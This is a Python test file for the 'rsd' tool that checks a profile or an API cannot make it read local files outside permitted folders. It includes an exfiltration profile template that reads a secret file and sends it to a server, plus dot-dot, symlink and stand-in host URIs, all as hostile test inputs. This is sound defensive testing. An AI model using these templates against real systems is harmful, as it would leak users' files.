"""Issue #12, findings 2 and 3: what a profile or an API can make rsd read from disk (docs/reference/contract.md
§11).

A `file://` URI reads only inside the profile's own folder and the `--allow-files` folders (a job step's
`allow_files`); a URI that comes from a response (a next URL, a `Link` header) is never read from disk. Anything
else is exit 2 naming the URI, before anything is read: the files these tests point at are named pipes, which a
read would block on for ever, and the capture server must receive nothing.
"""
from __future__ import annotations

import json
import os

import pytest

from rsd import api
from rsd.errors import InvalidInputError

try:
    from cli_support import rsd
    from servers import serve
    from servers.hostile import Capture, Recorder
except ImportError:  # tests/ imported as a package
    from tests.cli_support import rsd
    from tests.servers import serve
    from tests.servers.hostile import Capture, Recorder

from werkzeug.wrappers import Request, Response

COLUMNS = """\
    <attr name="id" xs:type="integer" other:xPath="/json/items/id"/>
    <attr name="name" xs:type="string" other:xPath="/json/items/name"/>"""


def profile(folder, body: str, name: str = "P.rsd") -> str:
    text = f"""\
<api:script xmlns:api="http://apiscript.com/ns?v1" xmlns:xs="http://www.w3.org/2001/XMLSchema">
  <api:info title="P" xmlns:other="http://apiscript.com/ns?v1">
{COLUMNS}
  </api:info>
{body}
</api:script>
"""
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return str(path)


#: reads a file, then sends a value of it to BaseURL in a second call (finding 3)
EXFILTRATE = """\
  <api:set attr="filereq.URI" value="{uri}"/>
  <api:set attr="filereq.ElementMapPath#1" value="$.secret"/>
  <api:set attr="filereq.ElementMapName#1" value="secret"/>
  <api:call op="jsonproviderGet" in="filereq" out="f">
    <api:set attr="_input.leak" value="[f.secret]"/>
  </api:call>
  <api:set attr="URI" value="[_connection.BaseURL]/items?leak=[_input.leak]"/>
  <api:set attr="JSONPath" value="$.items"/>
  <api:script method="GET">
    <api:call op="jsonproviderGet"><api:push/></api:call>
  </api:script>"""


def test_a_profile_cannot_read_a_file_outside_its_folder(tmp_path):
    outside, mine = tmp_path / "outside", tmp_path / "profiles"
    outside.mkdir(), mine.mkdir()
    os.mkfifo(outside / "pipe.json")  # reading it would block: the test proves nothing is read
    (outside / "secret.json").write_text(json.dumps({"secret": "file-secret-Tq81"}))
    capture = Capture()
    with serve(capture) as base:
        for name in ("pipe.json", "secret.json"):
            uri = (outside / name).as_uri()
            path = profile(mine, EXFILTRATE.format(uri=uri))
            # a new process, so that the timeout holds if the pipe were ever read
            r = rsd("run", path, "-o", f"BaseURL={base}", "-f", "csv", timeout=30, fresh=True)
            assert r.code == 2, r.stderr
            assert f"refused to read {uri}: it is outside the folders a profile may read ({mine})" in r.stderr
            assert f"hint: if the profile is meant to read it, run with --allow-files {outside}" in r.stderr
            assert not capture.requests
        allowed = rsd("run", path, "-o", f"BaseURL={base}", "-f", "csv", "--allow-files", str(outside))
    assert allowed.code == 0, allowed.stderr
    assert "leak=file-secret-Tq81" in capture.text()  # --allow-files: the user said the profile may


def test_dot_dot_and_symbolic_links_do_not_leave_the_folder(tmp_path):
    outside, mine = tmp_path / "outside", tmp_path / "profiles"
    outside.mkdir(), mine.mkdir()
    os.mkfifo(outside / "pipe.json")
    (mine / "link.json").symlink_to(outside / "pipe.json")
    (mine / "ok.json").write_text(json.dumps({"items": [{"id": 1, "name": "local"}]}))
    body = """\
  <api:set attr="URI" value="{uri}"/>
  <api:set attr="JSONPath" value="$.items"/>
  <api:script method="GET"><api:call op="jsonproviderGet"><api:push/></api:call></api:script>"""
    for uri in (f"file://{mine}/../outside/pipe.json", (mine / "link.json").as_uri(), "file://evil.example.com/x"):
        with pytest.raises(InvalidInputError, match="refused to read"):
            api.collect(profile(mine, body.format(uri=uri)))
    assert api.collect(profile(mine, body.format(uri=(mine / "ok.json").as_uri()))).rows == [(1, "local")]


class FileNext(Recorder):
    """An API whose next page is a `file://` URI, by a next URL in the body or a `Link` header."""

    def __init__(self, way: str, target: str):
        super().__init__()
        self.way, self.target = way, target

    def __call__(self, environ, start_response):
        self.record(Request(environ))
        page = {"items": [{"id": 1, "name": "one"}]}
        headers = {}
        if self.way == "next":
            page["next"] = self.target
        else:
            headers["Link"] = f'<{self.target}>; rel="next"'
        return Response(json.dumps(page), content_type="application/json", headers=headers)(environ, start_response)


@pytest.mark.parametrize("way", ["next", "link"])
def test_an_api_cannot_make_rsd_read_a_file(tmp_path, way):
    os.mkfifo(tmp_path / "pipe.json")  # in the profile's own folder: a response may still not name it
    target = (tmp_path / "pipe.json").as_uri()
    paging = ('<api:set attr="nextpageurlpath" value="$.next"/>' if way == "next"
              else '<api:set attr="pagingtype" value="LinkHeader"/>')
    body = f"""\
  <api:set attr="URI" value="[_connection.BaseURL]/items"/>
  <api:set attr="JSONPath" value="$.items"/>
  <api:set attr="EnablePaging" value="true"/>
  {paging}
  <api:script method="GET"><api:call op="jsonproviderGet"><api:push/></api:call></api:script>"""
    app = FileNext(way, target)
    with serve(app) as base:
        r = rsd("run", profile(tmp_path, body), "-o", f"BaseURL={base}", "-f", "csv", "--output", "out.csv",
                "--allow-files", str(tmp_path), cwd=tmp_path, timeout=30, fresh=True)
    assert r.code == 2, r.stderr
    assert f"refused to read {target}: a URI that comes from a response is never read from disk" in r.stderr
    assert len(app.requests) == 1 and not (tmp_path / "out.csv").exists()


def test_a_job_step_allows_files(tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    (data / "items.json").write_text(json.dumps({"items": [{"id": 7, "name": "seven"}]}))
    body = f"""\
  <api:set attr="URI" value="{(data / 'items.json').as_uri()}"/>
  <api:set attr="JSONPath" value="$.items"/>
  <api:script method="GET"><api:call op="jsonproviderGet"><api:push/></api:call></api:script>"""
    (tmp_path / "profiles").mkdir()
    profile(tmp_path / "profiles", body)
    job = tmp_path / "job.toml"
    step = '[[steps]]\nname = "p"\ntype = "query"\nprofile = "profiles/P.rsd"\noutput = "out.csv"\n'
    job.write_text(step)
    refused = rsd("job", "run", str(job), cwd=tmp_path)
    assert refused.code == 2 and "outside the folders a profile may read" in refused.stderr
    job.write_text(step + 'allow_files = ["data"]\n')  # relative to the job's folder
    ran = rsd("job", "run", str(job), cwd=tmp_path)
    assert ran.code == 0, ran.stderr
    assert (tmp_path / "out.csv").read_text().splitlines() == ["id,name", "7,seven"]


def test_allow_files_must_be_a_folder(tmp_path):
    with pytest.raises(InvalidInputError, match="--allow-files '.*nowhere' is not a folder"):
        api.collect(profile(tmp_path, EXFILTRATE.format(uri="file:///x")), allow_files=[str(tmp_path / "nowhere")])
